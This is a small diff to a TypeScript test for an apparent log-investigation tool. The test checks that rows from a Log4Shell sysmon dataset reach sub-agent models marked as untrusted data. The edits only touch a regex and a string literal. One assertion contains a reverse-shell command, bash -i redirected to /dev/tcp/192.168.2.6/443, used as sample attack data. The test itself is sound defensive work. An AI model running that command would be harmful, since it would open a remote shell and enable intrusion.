@@ -128,7 +128,7 @@ function investigation(target: {
         expect(JSON.stringify(first.requests[0]?.body?.messages)).toContain('log4shell_linux_sysmon');
         // The row DuckDB returned reached the sub-agent's model as data.
         expect(JSON.stringify(first.requests[2]?.body?.messages)).toMatch(
-          /untrusted-data[^]*bash -i >& \/dev\/tcp\/192.168.2.6\/443 0>&1/,
+          /untrusted-data[\s\S]*bash -i >& \/dev\/tcp\/192.168.2.6\/443 0>&1/,
         );
         // Its answer reached the chat's model as data too.
         expect(JSON.stringify(first.requests[4]?.body?.messages)).toContain(
@@ -153,7 +153,7 @@ function investigation(target: {
             },
             { text: 'The tomcat user.' },
             { text: JSON.stringify({ claims: [], helpfulMemoryIds: [], harmfulMemoryIds: [] }) },
-            { text: 'The tomcat user (uid 1001).' + padding },
+            { text: `The tomcat user (uid 1001).${padding}` },
           ],
         });
         expect(second.status).toBe(0);
